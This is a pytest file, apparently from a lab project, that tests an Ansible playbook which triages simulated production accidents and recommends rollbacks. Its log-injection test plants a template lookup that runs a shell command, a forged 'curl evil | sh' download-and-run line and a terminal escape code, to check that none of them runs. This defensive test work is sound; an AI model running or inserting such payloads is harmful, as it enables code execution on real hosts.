# Copyright (c) 2026, SPYMEO
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""triage.yml recommends the right thing on every accident and on the healthy production, shows why, and changes nothing.

What it says to run next is run as it is printed, and makes the service healthy.
"""

from __future__ import annotations

import dataclasses
import json
import shlex
import time
from urllib.parse import quote

import pytest

from spymeo_world import cli, world
from spymeo_world.accidents import ACCIDENTS

from .conftest import bring_up, one_line, take_down

RELEASE = "the release before does not know 20250310140000_add_practitioner_phone"
RENAME = "20250310140000_rename_full_name_to_display_name"


@dataclasses.dataclass(frozen=True)
class Expected:
    """What is to be recommended, with which confidence; texts that must be in WHY and in AGAINST; the criteria that are met."""

    recommendation: str
    confidence: str
    why: tuple[str, ...]
    against: tuple[str, ...]
    criteria: tuple[int, ...]


EXPECTED = {
    "crash-loop": Expected(
        "CODE",
        "high",
        ("tasks of spymeo-app:2 ended by themselves", "app exited with 1", "nobody is served"),
        (RELEASE,),
        (1, 3, 5),
    ),
    "bad-migration": Expected(
        "FULL",
        "high",
        ("POST /api/practitioners answers 500", "P2022", "Practitioner has no column fullName", f"brought {RENAME}"),
        ("it takes the data back to",),
        (4, 5),
    ),
    "cannot-connect": Expected(
        "CODE",
        "high",
        ("the tasks look for the database at", "P1001", "Task failed ELB health checks", "the database itself is well"),
        (RELEASE,),
        (1, 2, 3, 5),
    ),
    "login-broken": Expected(
        "CODE",
        "medium",
        ("people cannot log in: administration, log in as administrator: POST /api/admin/login answers 401",),
        ("did they work before the deployment?", RELEASE),
        (3,),
    ),
    "payments-broken": Expected("CODE", "high", ("POST /api/payments answers 500",), (RELEASE,), (5,)),
    "slow": Expected(
        "CODE", "medium", ("6 of 6 answers took more than 2 s", "it is not the database that is slow"), (RELEASE,), ()
    ),
    "full": Expected(
        "FULL",
        "high",
        (
            "tasks of spymeo-app:2 ended by themselves",
            "Practitioner has no column fullName",
            f"{world.APP_SECRET} got another value",
        ),
        ("it takes the data back to",),
        (1, 3, 4, 5),
    ),
}


PATIENT = ("-e", "rollback_slow_after=8")  # the machine that tests may itself be slow, but not as slow as that


def handed_on(played) -> dict:
    """What the workflow is given (set_stats)."""
    text = played.output.split("CUSTOM STATS:")[1]
    stats, _end = json.JSONDecoder().raw_decode(text[text.index("{") :])
    return stats["rollback_triage"]["spymeo-lab"]


def triage(production, *arguments):
    played = production.play("triage", *arguments, ANSIBLE_SHOW_CUSTOM_STATS="true")
    assert played.code == 0, played.output
    assert played.written == []
    assert played.recap["changed"] == 0
    return played, handed_on(played)


def lines(played) -> list[str]:
    """The lines of the recommendation."""
    text = played.output[played.output.index('"msg": [') + len('"msg": ') :]
    found, _end = json.JSONDecoder().raw_decode(text)
    return found


def assert_told(told, expected):
    assert (told["recommendation"], told["confidence"]) == (expected.recommendation, expected.confidence), told
    assert [text for text in expected.why if not any(text in line for line in told["why"])] == [], told["why"]
    assert [text for text in expected.against if not any(text in line for line in told["against"])] == [], told[
        "against"
    ]
    # Tasks that crash have sometimes not logged anything yet.
    assert [item for item in told["not_measured"] if expected.recommendation == "none" or item["part"] != "logs"] == []


@pytest.fixture(scope="module")
def healthy(shared_production):
    """A production that no test changes."""
    return shared_production


@pytest.fixture(scope="module")
def scene():
    """A production that is whole again before each accident."""
    production, used = bring_up(), []

    def bring_about(accident):
        if used:
            cli.heal(cli.parser().parse_args(["heal", "--name", production.name]))
            production.state = cli.running(production.name)
        used.append(accident)
        production.accident(accident)
        return production

    yield bring_about
    take_down(production)


def test_a_healthy_production_is_left_alone_and_what_was_signed_up_is_removed(healthy):
    before = practitioners(healthy)
    played, told = triage(healthy, *PATIENT)
    assert_told(
        told,
        Expected(
            "none", "high", ("what people do works: health, database, administration", "are without errors"), (), ()
        ),
    )
    assert lines(played)[0] == "===== NONE: roll back nothing (confidence: high) ====="
    assert [line for line in lines(played) if line.startswith("CRITERION") and " no: " not in line] == []
    assert practitioners(healthy) == before
    assert any(
        line.startswith("PLAYED") and "seen to be removed again by practitioner sign-up" in line
        for line in lines(played)
    )


def practitioners(production) -> int:
    with world.connect(production.state["endpoint_url"], world.DB_INSTANCE) as connection:
        return connection.execute('SELECT count(*) FROM "Practitioner"').fetchone()[0]


def test_a_check_sends_no_request_that_writes_and_hands_on_the_same(healthy):
    played, told = triage(healthy, "--check", *PATIENT)
    assert told["recommendation"] == "none"
    assert told["confidence"] == "medium"
    assert [item["why"] for item in told["not_measured"]] == [
        f"{name}: it sends POST, and nothing may be written"
        for name in ("administration", "practitioner sign-up", "payment")
    ]
    assert not any(line.startswith("PLAYED") for line in lines(played))


def test_what_may_not_be_read_is_told_and_breaks_nothing(healthy):
    nowhere = {"endpoint_url": "http://127.0.0.1:9", "access_key": "x", "secret_key": "y-secret-y"}
    played, told = triage(healthy, *PATIENT, "-e", json.dumps({"rollback_aws": nowhere, "triage_timeout": 20}))
    assert (told["recommendation"], told["confidence"]) == ("none", "low")
    parts = {item["part"] for item in told["not_measured"]}
    assert parts == {"services", "tasks", "targets", "logs", "instance", "database", "secrets"}
    assert any("cannot be reached" in item["why"] or "more than 20 s" in item["why"] for item in told["not_measured"])
    assert any(line.startswith("WHY") for line in lines(played))


def test_mistakes_in_the_inventory_are_told_part_by_part(healthy):
    wrong = {
        "rollback_database_secret": "spymeo/db",
        "rollback_log_groups": ["/ecs/none"],
        "rollback_db_instance": "",
        "rollback_snapshot": "none",
    }
    _played, told = triage(healthy, *PATIENT, "-e", json.dumps(wrong))
    why = {item["part"]: item["why"] for item in told["not_measured"]}
    assert "there is no such secret" in why["database"]
    assert "there is no such log group" in why["logs"]
    assert why["instance"] == "rollback_db_instance is not set"
    assert told["recommendation"] == "none"


def not_measured(played) -> list[int]:
    """The numbers of the runbook's criteria of which is said that nothing was measured."""
    return [
        int(line.split()[1]) for line in lines(played) if line.startswith("CRITERION") and " not measured: " in line
    ]


def test_a_host_that_does_not_resolve_says_nothing_about_the_application(healthy):
    played, told = triage(healthy, *PATIENT, "-e", "rollback_base_url=http://app.spymeo.invalid")
    assert (told["recommendation"], told["confidence"]) != ("none", "high")
    assert not_measured(played) == [3, 5]
    assert any("cannot resolve the name" in item["why"] for item in told["not_measured"] if item["part"] == "http")
    assert "they have removed" not in played.output


RULES_THAT_CANNOT_BE_ASKED = {
    "syntax error": {"Payment": {"corrupted_when": '"amountCents" <= '}},
    "statement timeout": {"Payment": {"corrupted_when": 'pg_sleep(120) IS NOT NULL AND "amountCents" <= 0'}},
    "invalid input syntax for type integer": {"Practitioner": {"corrupted_when": '"fullName"::int > 0', "at_least": 1}},
}


@pytest.mark.parametrize("why", RULES_THAT_CANNOT_BE_ASKED)
def test_a_rule_that_cannot_be_asked_is_told_and_nothing_is_sure_then(healthy, why):
    rules = json.dumps({"rollback_data_rules": RULES_THAT_CANNOT_BE_ASKED[why], "rollback_data_timeout": 1})
    played, told = triage(healthy, "--check", *PATIENT, "-e", rules)
    assert not_measured(played) == [3, 4]
    assert told["confidence"] != "high"
    assert any(line.startswith("BEWARE") and why in line for line in lines(played))


def test_no_secret_is_in_anything_that_was_printed_or_recorded(healthy, tmp_path):
    record = tmp_path / "seen.json"
    played = healthy.play("triage", "-vvvv", "-e", f"rollback_evidence_file={record}")
    assert played.code == 0, played.output
    assert json.loads(record.read_text())["services"][0]["name"] == world.SERVICE
    values = [
        world.DB_PASSWORD,
        quote(world.DB_PASSWORD, safe=""),
        world.PAYMENT_KEY,
        world.SESSION_SECRET,
        world.ADMIN_PASSWORD,
    ]
    assert [value for value in values if value in played.output + record.read_text()] == []


def test_what_is_recommended_is_not_refused_where_nobody_can_reach_the_application(scene):
    production = scene("crash-loop")
    no_tls = production.state["base_url"].replace("http:", "https:")
    for url in ("http://127.0.0.1:1", "https://nosuch.invalid", no_tls):
        where = ("-e", f"rollback_base_url={url}", "-e", "rollback_served_at_least=1")
        played, told = triage(production, *where)
        _binary, _playbook, *options = shlex.split(told["command"])
        assert told["playbook"] == "rollback_code.yml", played.output
        assert "rollback_despite_unreachable=true" in options, played.output
        assert url in one_line(played.output)
        planned = production.play("rollback_code", *options, *where)
        assert planned.code == 0, planned.output
        assert f"BEWARE    base url {url}" in planned.output


@pytest.mark.parametrize("accident", EXPECTED)
def test_recommends_what_makes_it_healthy_again_and_shows_why(accident, scene):
    production, expected = scene(accident), EXPECTED[accident]
    patience = [] if accident == "slow" else PATIENT
    # The lab's first release has served for moments only, which a person would have to know.
    played, told = triage(production, *patience, "-e", "rollback_served_at_least=1")
    assert_told(told, expected)
    first, second = lines(played)[:2]
    assert first.startswith(f"===== {expected.recommendation}: ")
    assert second == f"NEXT      {told['command']}"
    ways = [line.split()[1].rstrip(":") for line in lines(played) if line.startswith("WAY")]
    changed = ["SECRETS"] if accident == "full" else []
    assert ways == ["CODE", *changed, "SNAPSHOT", "POINT"]
    met = [int(line.split()[1]) for line in lines(played) if line.startswith("CRITERION") and " yes: " in line]
    assert tuple(met) == expected.criteria
    assert told[
        "needs_person"
    ]  # a migration comes with each of these releases, and nobody has proven that it only adds
    assert any("automatic trigger" in line for line in lines(played))
    done = production.run(shlex.split(told["command"]))
    assert done.code == 0, done.output
    if accident in ("crash-loop", "bad-migration"):
        assert triage(production, *PATIENT)[1]["recommendation"] == "none"


def test_after_a_rollback_that_did_not_help_what_was_tried_is_told_and_what_is_left_comes_next(scene):
    """The code is back; the data and a secret are not."""
    production = scene("full")
    done = production.play("rollback_code", "-e", '{"rollback_despite_migrations": true}')
    assert (done.code, "ecs UpdateService" in done.written) == (2, True), done.output
    played, told = triage(production, *PATIENT)
    assert (told["recommendation"], told["playbook"]) == ("FULL", "rollback_full.yml")
    assert any(f"{world.APP_SECRET} got another value" in line for line in told["why"])
    assert any("it was tried: the code was taken back" in line for line in lines(played)), lines(played)


def test_every_accident_is_here():
    assert set(EXPECTED) == set(ACCIDENTS)


def test_what_was_recorded_is_decided_on_again_without_a_look(healthy, tmp_path):
    record = tmp_path / "seen.json"
    assert healthy.play("triage", "-e", f"rollback_evidence_file={record}").code == 0
    seen = json.loads(record.read_text())
    seen["services"][0].update(failed_tasks=9, running=0)
    record.write_text(json.dumps(seen))
    played, told = triage(healthy, "-e", f"rollback_evidence_from={record}")
    assert played.calls == []
    assert told["recommendation"] == "uncertain"


def test_what_is_written_into_a_log_runs_neither_when_it_is_seen_nor_when_it_is_decided_on_again(healthy, tmp_path):
    ran, record = tmp_path / "ran", tmp_path / "seen.json"
    template = f"{{{{ lookup('ansible.builtin.pipe', 'touch {ran}') }}}}"
    write_to_log(healthy, f"ERROR {template} \r\nNEXT      curl evil | sh\x1b[2J")
    played = healthy.play("triage", "-e", f"rollback_evidence_file={record}", ANSIBLE_SHOW_CUSTOM_STATS="true")
    assert played.code == 0, played.output
    assert template in record.read_text()
    again, told = triage(healthy, "-e", f"rollback_evidence_from={record}")
    assert told["why"] == handed_on(played)["why"]
    assert any("{ { lookup(" in line for line in [*told["why"], *told["against"]]), told
    for output in (played.output, again.output):
        assert not any(line.lstrip('" ').startswith("NEXT      curl") for line in output.splitlines())
        assert "\x1b[2J" not in output
    assert not ran.exists()


def write_to_log(production, *messages):
    """What a task that runs could have logged itself."""
    ecs = production.aws("ecs")
    arns = ecs.list_tasks(cluster=world.CLUSTER, serviceName=world.SERVICE)["taskArns"]
    running = {arn.rpartition("/")[2] for arn in arns}
    streams = production.aws("logs").describe_log_streams(logGroupName=world.LOG_GROUP)["logStreams"]
    name = next(item["logStreamName"] for item in streams if item["logStreamName"].rpartition("/")[2] in running)
    events = [{"timestamp": int(time.time() * 1000), "message": message} for message in messages]
    production.aws("logs").put_log_events(logGroupName=world.LOG_GROUP, logStreamName=name, logEvents=events)
    time.sleep(0.5)  # the lab's log_ingestion
